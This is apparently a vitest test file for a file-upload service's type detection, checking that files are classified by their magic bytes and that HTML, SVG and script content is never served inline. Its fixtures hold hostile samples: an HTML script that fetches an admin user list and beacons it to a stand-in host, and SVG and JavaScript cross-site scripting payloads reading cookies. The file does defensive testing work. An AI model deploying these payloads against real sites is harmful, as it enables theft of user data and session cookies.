import fs from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { tempDir } from '../../test/helper.ts';
import { APK_BYTES, ZIP_BYTES, zipOf } from '../../test/portal-helpers.ts';
import { DERIVED_PAIRS, fileTypeOf, isInline, UNKNOWN_TYPE } from './file-type.ts';
import { servedType } from './serve.ts';

const dir = tempDir('kit-file-type-');
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

let n = 0;
async function typeOf(bytes: Buffer | string): Promise<{ mime: string; ext: string }> {
  const file = path.join(dir, `f${++n}`);
  fs.writeFileSync(file, bytes);
  const { mime, ext } = await fileTypeOf(file);
  return { mime, ext };
}

/** Active content a stored file must never be served as. */
const HTML_BYTES = Buffer.from('<!doctype html><html><body><script>fetch("/api/v2/admin/users.csv").then(r=>r.text()).then(t=>navigator.sendBeacon("//x.example",t))</script></body></html>');
const SVG_BYTES = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>');

describe('fileTypeOf: a file is what its bytes are', () => {
  it.each([
    ['a JPEG', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46]), 'image/jpeg', 'jpg'],
    ['a PNG', Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1'), 'image/png', 'png'],
    ['a PDF', Buffer.from('%PDF-1.7\n%âãÏÓ\n'), 'application/pdf', 'pdf'],
    ['an MP4', Buffer.from([0, 0, 0, 0x20, ...Buffer.from('ftypisom'), 0, 0, 2, 0]), 'video/mp4', 'mp4'],
    ['an Android package (its zip lists AndroidManifest.xml)', APK_BYTES, 'application/vnd.android.package-archive', 'apk'],
    ['a zip without AndroidManifest.xml', ZIP_BYTES, 'application/zip', 'zip'],
    ['zip magic with no directory', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(500, 1)]), 'application/zip', 'zip'],
    ['a ZIM (the openZIM magic 0x044D495A, little-endian)', Buffer.concat([Buffer.from('ZIM\x04', 'latin1'), Buffer.from([6, 0, 1, 0]), Buffer.alloc(72)]), 'application/x-zim', 'zim'],
    ['ZIM letters with another byte after them', Buffer.concat([Buffer.from('ZIM\x05', 'latin1'), Buffer.alloc(76)]), 'application/octet-stream', 'bin'],
    ['a Windows program', Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(200)]), 'application/vnd.microsoft.portable-executable', 'exe'],
    ['HTML', HTML_BYTES, 'application/octet-stream', 'bin'],
    ['SVG', SVG_BYTES, 'application/octet-stream', 'bin'],
    ['SVG without the XML line', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'application/octet-stream', 'bin'],
    ['JavaScript', Buffer.from('alert(document.domain)'), 'application/octet-stream', 'bin'],
    ['an empty file', Buffer.alloc(0), 'application/octet-stream', 'bin'],
  ])('%s → %s', async (_label, bytes, mime, ext) => {
    expect(await typeOf(bytes)).toEqual({ mime, ext });
  });

  it('finds the directory after a long archive comment, and takes only a root AndroidManifest.xml entry for an APK', async () => {
    const comment = Buffer.alloc(40_000, 0x41);
    const withComment = Buffer.concat([APK_BYTES.subarray(0, -2), Buffer.from([comment.length & 0xff, comment.length >> 8]), comment]);
    expect((await typeOf(withComment)).ext).toBe('apk');
    expect((await typeOf(zipOf({ 'LEEME.txt': 'AndroidManifest.xml' }))).ext).toBe('zip');
    expect((await typeOf(zipOf({ 'res/AndroidManifest.xml': '<manifest/>' }))).ext).toBe('zip');
  });
});

describe('what is served inline', () => {
  it('only pictures (not SVG), PDF, audio and video', () => {
    for (const mime of ['image/jpeg', 'image/png', 'image/gif', 'image/webp', 'application/pdf', 'audio/mpeg', 'audio/mp4', 'audio/ogg', 'audio/wav', 'video/mp4', 'video/webm']) {
      expect(servedType(mime), mime).toEqual({ contentType: mime, inline: true });
    }
    for (const mime of ['text/html', 'image/svg+xml', 'application/xhtml+xml', 'text/xml', 'application/xml', 'text/javascript', 'application/vnd.android.package-archive', 'application/zip', 'application/octet-stream', 'text/plain', '']) {
      expect(servedType(mime), mime).toEqual({ contentType: 'application/octet-stream', inline: false });
      expect(isInline(mime), mime).toBe(false);
    }
  });

  it('knows every type it can derive, the unknown one included', () => {
    expect(DERIVED_PAIRS).toContain(`${UNKNOWN_TYPE.ext} ${UNKNOWN_TYPE.mime}`);
    expect(DERIVED_PAIRS.some((pair) => /html|svg|xml|javascript/.test(pair))).toBe(false);
  });
});
